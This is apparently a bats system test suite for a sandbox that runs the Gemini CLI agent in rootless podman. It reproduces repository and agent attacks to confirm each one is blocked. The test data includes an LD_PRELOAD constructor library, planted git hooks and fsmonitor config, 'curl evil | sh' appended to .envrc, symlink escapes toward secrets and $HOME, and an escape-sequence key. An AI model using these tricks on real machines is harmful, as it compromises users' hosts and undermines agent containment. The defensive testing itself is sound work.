#!/usr/bin/env bats
#
# Containment: each test reproduces an attack for real, on real rootless
# podman, and fails if the hole reopens. Two attackers:
#   the repository: anything in a cloned project (.gemini/gemini-box.json,
#     .gemini/sandbox.Dockerfile, a .git file, a planted directory);
#   the agent: any process in the box (here: podman exec into it, as the
#     box's user, exactly what the agent can run).
# Files "planted by another user" come from setup-machine.sh, which makes them
# as the user gbother (GB_IT_PLANTED: a sticky, world-writable directory of
# gbother's holding .git and .gemini/gemini-box.json; GB_IT_PLANTED_TMP: a
# TMPDIR whose gemini/ide gbother made first).

# shellcheck disable=SC2015 # "test && test || fail" is meant
# shellcheck disable=SC2016 # single-quoted $ is test data

# shellcheck disable=SC2317,SC2030,SC2031 # bats: each @test is a function of its own process

load helpers

# The repository: a settings "env" value is a value for gemini in the box,
# never for a host process. A real preload library that marks the host.
@test "project_env_never_reaches_a_host_process" {
	local mark=$T/PRELOAD-RAN
	mkdir -p .gemini
	cat >"$T/evil.c" <<EOC
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void)
{
	int fd = open("$mark", O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (fd >= 0) { write(fd, "x\n", 2); close(fd); }
}
EOC
	gcc -shared -fPIC -o .gemini/libx.so "$T/evil.c" || fail "cannot build the preload library"
	# The library works: a plain host program loading it leaves the mark.
	LD_PRELOAD=$(realpath .gemini/libx.so) /bin/true
	[ -e "$mark" ] || fail "the preload library does not mark (test broken)"
	rm -f "$mark"
	printf '{"env": {"LD_PRELOAD": "%s", "GLIBC_TUNABLES": "x", "CONTAINERS_CONF": "/nonexistent"}}\n' \
		"$(realpath .gemini/libx.so)" >.gemini/gemini-box.json
	run_gb 0 --box-dry-run -p hi
	[ -e "$mark" ] && fail "a project's LD_PRELOAD ran on the host during --box-dry-run"
	run_gb 0 -p hi
	expect_report
	[ -e "$mark" ] && fail "a project's LD_PRELOAD ran on the host during a run"
	# Legitimate use keeps working: the value reaches gemini in the box.
	expect_env LD_PRELOAD "$(realpath .gemini/libx.so)"
	expect_env CONTAINERS_CONF /nonexistent
	run_gb 0 -p again # the warm path too
	expect_report
	[ -e "$mark" ] && fail "a project's LD_PRELOAD ran on the host during a warm run"
	return 0
}

# The repository: the image is the program that receives the keys. A project
# file's image, and a project's own Dockerfile, wait for the user's approval,
# which is pinned to their content (--box-trust).
@test "project_image_needs_approval_pinned_to_content" {
	unset GEMINI_IMAGE # the environment would beat the project file
	mkdir -p .gemini
	printf '{"image": "%s"}\n' "$IMAGE_ALT" >.gemini/gemini-box.json
	run_gb 78 -p hi
	expect_error_line
	grep -q 'image: a project file may not choose the image.*--box-trust' "$T/err" || fail "the refusal does not name --box-trust"
	expect_no_box .
	run_gb 64 --box-trust # no terminal to ask on, no --box-yes
	expect_error_line
	run_gb 0 --box-trust --box-yes
	grep -qF "$IMAGE_ALT" "$T/out" || fail "--box-trust does not show what the file asks for"
	run_gb 0 -p hi
	expect_report
	box_of .
	expect_eq "$(inspect '{{index .Config.Labels "gemini-box.image"}}')" "$IMAGE_ALT" "the approved image"
	# A git pull (or the agent) changes the file: the approval no longer applies.
	printf '{"image": "%s", "ports": ["8080:80"]}\n' "$IMAGE_ALT" >.gemini/gemini-box.json
	run_gb 78 -p hi
	expect_error_line
	grep -q 'the settings file changed since you approved it' "$T/err" || fail "the refusal does not say what changed"
	run_gb 0 --box-trust --box-yes
	run_gb 0 --box-rm --box-yes
	run_gb 0 -p hi
	expect_report
	# A project's own Dockerfile builds the image: approval first, and a change
	# to it (or to its build context) needs approval again.
	rm .gemini/gemini-box.json
	printf 'ARG BASE_IMAGE\nFROM $BASE_IMAGE\n' >.gemini/sandbox.Dockerfile
	run_gb 78 -p hi
	expect_error_line
	grep -q 'sandbox.Dockerfile builds the image that gets your keys.*--box-trust' "$T/err" || fail "no refusal naming the Dockerfile"
	run_gb 0 --box-trust --box-yes
	grep -q 'FROM \$BASE_IMAGE' "$T/out" || fail "--box-trust does not show the Dockerfile"
	run_gb 0 --box-dry-run -p hi
	echo 'RUN true' >>.gemini/sandbox.Dockerfile
	run_gb 78 --box-dry-run -p hi
	expect_error_line
	grep -q 'containerfile or its build context changed' "$T/err" || fail "a changed Dockerfile is not refused"
	return 0
}

# The repository: a Dockerfile (or .gemini) that is a link out of the project
# would build with another directory of the user's as its context.
@test "project_files_must_resolve_inside_the_project" {
	mkdir -p "$T/elsewhere/.gemini"
	echo secret >"$T/elsewhere/.gemini/id_rsa"
	printf 'ARG BASE_IMAGE\nFROM $BASE_IMAGE\nCOPY . /stolen\n' >"$T/elsewhere/.gemini/sandbox.Dockerfile"
	ln -s "$T/elsewhere/.gemini" .gemini
	run_gb 78 -p hi
	expect_error_line
	grep -q 'resolves outside the project' "$T/err" || fail "a .gemini link out of the project is not refused"
	rm .gemini && mkdir .gemini
	ln -s "$T/elsewhere/.gemini/sandbox.Dockerfile" .gemini/sandbox.Dockerfile
	run_gb 78 --box-trust --box-yes
	expect_error_line
	grep -q 'resolves outside the project' "$T/err" || fail "a Dockerfile link out of the project is not refused"
	expect_no_box .
}

# Another user: a .git and a project file planted above the working
# directory (git's CVE-2022-24765) are never adopted; a project file that
# belongs to someone else is refused.
@test "another_users_directory_is_never_the_project" {
	[ -n "${GB_IT_PLANTED:-}" ] || skip "needs the fixtures of setup-machine.sh (run tests/system/run.sh as root)"
	local work=$GB_IT_PLANTED/work-$$-$RANDOM
	mkdir "$work" && cd "$work" || fail "cannot make a directory in $GB_IT_PLANTED"
	# Outside $T: its boxes are removed here, or in teardown should the test end first.
	defer "remove_boxes_under $(printf %q "$work"); rm -rf $(printf %q "$work")"
	[ "$(stat -c %U "$GB_IT_PLANTED/.git")" = gbother ] || fail "fixture: .git is not gbother's"
	run_gb 0 -p hi
	expect_report
	box_of .
	expect_eq "$(inspect '{{index .Config.Labels "gemini-box.dir"}}')" "$work" "the box directory"
	inspect '{{range .Mounts}}{{.Source}}{{"\n"}}{{end}}' | grep -qxF "$GB_IT_PLANTED" &&
		fail "another user's directory is mounted"
	run_gb 0 --box-rm --box-yes
	cd "$GB_IT_PLANTED" || fail "cd"
	run_gb 78 -p hi
	expect_error_line
	grep -q 'belongs to another user' "$T/err" || fail "another user's .gemini is not refused as such"
	rm -rf "$work"
}

# Another user made the IDE companion's directory first: the run works, does
# not share it, and says so in one line.
@test "another_users_ide_directory_is_not_shared" {
	[ -n "${GB_IT_PLANTED_TMP:-}" ] || skip "needs the fixtures of setup-machine.sh (run tests/system/run.sh as root)"
	own_config '{"network": "host"}'
	TMPDIR=$GB_IT_PLANTED_TMP GEMINI_CLI_IDE_SERVER_PORT=1 run_gb 0 -p hi
	expect_report
	grep -q 'is not a private directory of yours' "$T/err" || fail "no line says the IDE directory is not shared"
	box_of .
	inspect '{{range .Mounts}}{{.Source}}{{"\n"}}{{end}}' | grep -q "$GB_IT_PLANTED_TMP" &&
		fail "another user's IDE directory is mounted into the box"
	return 0
}

# Home (with ~/.ssh) or anything holding it is never mounted as the project.
@test "home_and_root_are_never_the_project" {
	(cd "$HOME" && run_gb 66 -p hi && expect_error_line && grep -q 'your home directory' "$T/err") ||
		fail "a run in \$HOME was not refused"
	run_gb 66 --box-dir / -p hi
	expect_error_line
	run_gb 66 --box-dir "$(dirname "$HOME")" -p hi
	expect_error_line
	grep -q 'holds your home directory' "$T/err" || fail "a directory holding \$HOME was not refused"
	expect_no_box "$HOME"
}

# The agent: nothing it writes in ~/.gemini reaches the host's gemini (or
# another box), but chats and history do, and it reads what the host has.
@test "agent_cannot_rewrite_host_gemini_settings" {
	local before
	mkdir -p "$HOME/.gemini"
	[ -e "$HOME/.gemini/settings.json" ] || echo '{}' >"$HOME/.gemini/settings.json"
	before=$(sha256sum <"$HOME/.gemini/settings.json")
	run_gb 0 -p hi
	expect_report
	box_of .
	agent_sh 'cat /home/node/.gemini/settings.json >/dev/null' || fail "the box cannot read ~/.gemini/settings.json"
	agent_sh 'echo "{\"mcpServers\": {\"x\": {\"command\": \"touch /tmp/pwned\"}}}" >/home/node/.gemini/settings.json' ||
		fail "gemini's own write to its settings fails in the box (it must succeed, and stay there)"
	agent_sh 'mkdir -p /home/node/.gemini/extensions/evil /home/node/.gemini/commands && echo x >/home/node/.gemini/commands/evil.toml && echo x >/home/node/.gemini/GEMINI.md.agent' ||
		fail "writes in the box's ~/.gemini fail"
	agent_sh 'echo chat >/home/node/.gemini/tmp/agent-chat' || fail "cannot write ~/.gemini/tmp in the box"
	expect_eq "$(sha256sum <"$HOME/.gemini/settings.json")" "$before" "the host's ~/.gemini/settings.json"
	[ -e "$HOME/.gemini/extensions/evil" ] && fail "an extension made in the box reached the host"
	[ -e "$HOME/.gemini/commands/evil.toml" ] && fail "a command made in the box reached the host"
	[ -e "$HOME/.gemini/GEMINI.md.agent" ] && fail "a file made in the box's ~/.gemini reached the host"
	# shellcheck disable=SC2088 # the message means the tilde
	[ "$(cat "$HOME/.gemini/tmp/agent-chat" 2>/dev/null)" = chat ] || fail "~/.gemini/tmp does not reach the host"
	rm -f "$HOME/.gemini/tmp/agent-chat"
	# Another box never sees the first one's writes either.
	mkdir other && (cd other && run_gb '?' -p 'cat:/home/node/.gemini/commands/evil.toml') || true
	grep -q 'cat./home/node/.gemini/commands/evil.toml=(unreadable)' "$T/out" || fail "another box sees the first box's ~/.gemini writes"
}

# The agent: git's hooks and config, gemini-box's own project files and the
# user's protected paths are read-only in the box and cannot be renamed away;
# the agent can still commit (objects, refs, index).
@test "agent_cannot_plant_git_hooks_or_project_settings" {
	local attack
	git init -q . || fail "git init"
	mkdir -p .gemini && echo '{}' >.gemini/gemini-box.json && echo 'export X=1' >.envrc
	own_config '{"protected_paths": [".envrc"]}'
	run_gb 0 -p hi
	expect_report
	box_of .
	for attack in 'echo "#!/bin/sh" >.git/hooks/pre-commit' 'echo "[core] fsmonitor = touch /tmp/pwned" >>.git/config' \
		'mv .git .git-old' 'mv .git/hooks .git/hooks-old' 'rm -rf .git/hooks' \
		'echo "{\"podman_args\": [\"--privileged\"]}" >.gemini/gemini-box.json' 'mv .gemini .gemini-old' \
		'echo FROM evil >.gemini/sandbox.Dockerfile' 'echo "curl evil | sh" >>.envrc' 'mv .envrc .envrc-old'; do
		agent_sh "$attack" 2>/dev/null && fail "the agent could: $attack"
	done
	[ -e .git/hooks/pre-commit ] && fail "a hook was planted"
	grep -q fsmonitor .git/config && fail ".git/config was changed"
	[ -e .gemini/sandbox.Dockerfile ] && fail "a Dockerfile was planted"
	expect_eq "$(cat .envrc)" 'export X=1' ".envrc"
	# What a commit writes stays writable.
	agent_sh 'echo x >.git/objects/agent-test && echo y >.git/index.agent && mkdir -p .git/refs/heads/agent && echo z >README' ||
		fail "the agent cannot write objects, refs or project files"
	rm -f .git/objects/agent-test .git/index.agent README
}

# The agent: a linked worktree works in the box (its common git directory is
# mounted at its own path) and is protected the same way; a .git file that a
# repository points elsewhere mounts nothing.
@test "linked_worktree_is_mounted_and_protected" {
	local common
	mkdir main && cd main && git init -q . && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m init &&
		git worktree add -q ../wt && cd ../wt || fail "git worktree add"
	common=$(realpath ../main/.git)
	run_gb 0 -p "cat:$common/HEAD"
	expect_report
	rget "cat.$common/HEAD" | grep -q 'ref: refs/heads' || fail "the common git directory is not in the box"
	box_of .
	agent_sh "echo evil >$common/hooks/post-checkout" 2>/dev/null && fail "the agent could plant a hook in the common git directory"
	agent_sh "echo x >$common/objects/agent-test" || fail "the agent cannot write objects of the common git directory"
	rm -f "$common/objects/agent-test"
	# A cloned .git file pointing at another directory of the user's.
	mkdir "$T/secret" && echo key >"$T/secret/id_rsa"
	mkdir ../hostile && cd ../hostile && echo "gitdir: $T/secret" >.git
	run_gb 0 -p "cat:$T/secret/id_rsa"
	expect_report
	expect_eq "$(rget "cat.$T/secret/id_rsa")" '(unreadable)' "a file the .git file points at"
}

# The agent: a mount source it replaced with a link to $HOME while the box
# ran is not mounted at the next start; the start is refused.
@test "symlink_swap_of_a_mount_source_is_refused" {
	local real
	real=$(realpath .)
	mkdir data && echo ok >data/file
	own_config "{\"mounts\": [{\"source\": \"$real/data\", \"target\": \"/data\"}]}"
	run_gb 0 -p cat:/data/file
	expect_report
	box_of .
	agent_sh "rm -rf $real/data && ln -s $HOME $real/data" || fail "the swap itself failed (test broken)"
	podman stop -t 2 "$BOX" >/dev/null
	run_gb 71 -p 'cat:/data/.bashrc'
	grep -q 'is no longer what it was when the box was made.*--box-recreate' "$T/err" || fail "no refusal naming --box-recreate"
	box_running && fail "the box was started with the swapped mount"
	grep -q 'cat./data/.bashrc=' "$T/out" && fail "the home directory was mounted"
	return 0
}

# The agent: the box sees only its lock, read-only; the record the host
# trusts is out of its reach.
@test "agent_cannot_touch_gemini_box_state" {
	run_gb 0 -p hi
	expect_report
	box_of .
	agent_sh 'ls -A /run/gemini-box' >"$T/ls" || fail "ls /run/gemini-box"
	expect_eq "$(tr '\n' ' ' <"$T/ls")" "init lock " "what the box sees of gemini-box's files"
	agent_sh 'echo x >/run/gemini-box/lock' 2>/dev/null && fail "the agent could write the lock"
	agent_sh 'ln -s /etc/passwd /run/gemini-box/box' 2>/dev/null && fail "the agent could plant a file beside the lock"
	run_gb 0 -p again
	expect_report
}

# Small ones: an image name cannot become a podman option; a key's escape
# sequence never reaches the terminal.
@test "hostile_names_stay_inert" {
	run_gb 64 --box-image=--privileged -p hi
	expect_error_line
	mkdir -p .gemini
	printf '{"\\u001b]0;pwned\\u0007": 1}\n' >.gemini/gemini-box.json
	run_gb 78 -p hi
	expect_error_line
	grep -q $'\e' "$T/err" && fail "an escape sequence from the project file reached stderr"
	return 0
}

# The agent, with the real gemini CLI (npm, built into a local image by
# tests/integration/build-gemini-image.sh): interactive gemini reaches its
# main screen in a box (a read-only ~/.gemini would hang it), and what it
# writes in ~/.gemini (its settings, projects.json, installation_id) stays in
# the box, while its chats reach the host's ~/.gemini/tmp.
@test "real_gemini_runs_and_its_settings_stay_in_the_box" {
	[ -n "${GB_IT_REAL_IMAGE:-}" ] || skip "needs the real gemini image (run tests/system/run.sh as root: setup-machine.sh builds it)"
	podman image exists "$GB_IT_REAL_IMAGE" || fail "the real gemini image $GB_IT_REAL_IMAGE is missing"
	local g=$HOME/.gemini saved=$T/gemini-saved before i seen=
	mkdir -p "$g" "$T/gemini-saved"
	for i in settings.json projects.json state.json installation_id; do
		[ -e "$g/$i" ] && mv "$g/$i" "$saved/$i"
	done
	# Restore the user's files however this ends.
	defer "rm -f '$g/settings.json' '$g/projects.json' '$g/state.json' '$g/installation_id'; cp -a '$saved'/. '$g'/ 2>/dev/null"
	echo '{"security": {"auth": {"selectedType": "gemini-api-key"}, "folderTrust": {"enabled": false}}, "ui": {"theme": "Default"}, "general": {"disableAutoUpdate": true}}' >"$g/settings.json"
	before=$(sha256sum <"$g/settings.json")
	# a person at a terminal: no CI (which makes gemini headless)
	printf 'unset CI GITHUB_ACTIONS; cd %q && GEMINI_IMAGE=%q GEMINI_API_KEY=dummy TERM=xterm-256color %q 2>%q\n' \
		"$PWD" "$GB_IT_REAL_IMAGE" "$BIN" "$T/real.err" >"$T/real.sh"
	TERM=xterm-256color tmux -L "$TMUX_SOCKET" -f /dev/null new-session -d -x 200 -y 50 "bash $(printf %q "$T/real.sh")" ||
		fail "tmux new-session failed"
	for ((i = 0; i < 180; i++)); do
		tmux -L "$TMUX_SOCKET" capture-pane -p >"$T/screen" 2>/dev/null || true
		if grep -q 'Type your message' "$T/screen"; then
			seen=1
			break
		fi
		sleep 0.5
	done
	sed 's/^/  screen| /' "$T/screen" | head -30
	sed 's/^/  stderr| /' "$T/real.err" 2>/dev/null | head -5
	[ -n "$seen" ] || fail "real gemini did not reach its main screen within 90 s (a hang)"
	box_of .
	sleep 2 # its start-up writes
	podman exec "$BOX" test -e /home/node/.gemini/projects.json || fail "gemini wrote no projects.json in the box (test broken?)"
	tmux -L "$TMUX_SOCKET" kill-server >/dev/null 2>&1 || true
	expect_eq "$(sha256sum <"$g/settings.json")" "$before" "the host's ~/.gemini/settings.json after real gemini ran"
	[ -e "$g/projects.json" ] && fail "projects.json written by gemini in the box reached the host"
	[ -e "$g/installation_id" ] && fail "installation_id written by gemini in the box reached the host"
	find "$g/tmp" -newer "$T/real.sh" -type f | grep -q . || fail "gemini's chats or logs did not reach ~/.gemini/tmp"
	return 0
}
